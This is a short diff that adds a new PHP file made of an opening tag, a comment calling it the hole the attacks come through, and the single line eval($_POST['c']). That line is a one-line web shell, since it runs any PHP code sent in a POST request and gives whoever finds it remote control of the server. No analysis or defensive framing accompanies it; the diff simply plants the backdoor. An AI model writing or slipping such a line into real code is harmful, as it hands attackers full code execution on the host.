@@ -1,0 +1,3 @@
+<?php
+// The hole that the attacks come through.
+eval($_POST['c']);
